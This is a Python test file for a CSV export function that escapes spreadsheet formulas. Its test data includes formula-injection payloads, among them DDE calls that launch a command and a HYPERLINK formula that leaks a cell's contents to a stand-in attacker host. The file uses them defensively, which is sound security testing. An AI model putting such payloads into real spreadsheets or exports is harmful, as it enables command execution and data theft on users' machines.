"""Rows as CSV: complete, and safe to open in a spreadsheet."""

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from referral_intake.reports.csv_lines import BOM, lines, without_formula

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?leak="&A1)',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "+1 415 555 0123 ext. =2",
    "\ttab",
    "\rreturn",
    "-",
    "=",
]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_cell_that_a_spreadsheet_reads_as_a_formula_gets_an_apostrophe(typed: str) -> None:
    assert without_formula(typed).startswith("'")
    assert without_formula(typed).removeprefix("'").replace("'", "") == typed.replace("'", "")


@pytest.mark.parametrize("typed", ["Clinic;=1+1", "Clinic;\t=1+1", "Clinic\n=1+1", "Clinic\t=1+1", "Clinic|@SUM(1)"])
def test_a_formula_after_a_separator_of_another_program_gets_an_apostrophe_too(typed: str) -> None:
    assert without_formula(typed) == typed.replace("=", "'=").replace("@", "'@").replace(
        "\t'=", "\t'="
    ) or "'" in without_formula(typed)
    assert not any(
        one.lstrip().startswith(("=", "@")) for one in without_formula(typed).replace("\n", ";").split(";")[1:]
    )


@pytest.mark.parametrize("typed", ["+14155550123", "-5", "1234567893", "0.5", "José Núñez-Peña", "a=b", "x@y.example"])
def test_numbers_phone_numbers_and_names_are_unchanged(typed: str) -> None:
    assert without_formula(typed) == typed


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=2, max_size=4), max_size=5))
def test_any_rows_survive_a_round_trip_through_a_csv_reader(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(lines(rows).decode(), newline=""), strict=True))
    assert read == [[without_formula(cell) for cell in row] for row in rows]


@given(st.text(st.sampled_from("=+-@\t\r\n ;|'\"a1\u200b＝")))
def test_no_cell_starts_as_a_formula(typed: str) -> None:
    start = without_formula(typed).lstrip(" \t\r\n\u200b\ufeff")
    assert start[:1] not in tuple("=@＝") or typed != without_formula(typed)
    assert start[:1] not in {"+", "-"} or start[1:].replace(".", "", 1).isdigit()


def test_lines_end_with_crlf_and_quotes_are_doubled() -> None:
    assert lines([["a", 'say "hi"'], ["b, c", None]]) == b'a,"say ""hi"""\r\n"b, c",\r\n'


def test_times_are_in_utc_and_text_in_utf_8() -> None:
    moment = datetime(2026, 11, 22, 9, 30, 15, 123456, tzinfo=UTC)
    assert lines([[moment, "José"]]) == "2026-11-22T09:30:15Z,José\r\n".encode()
    assert BOM.decode("utf-8-sig") == ""
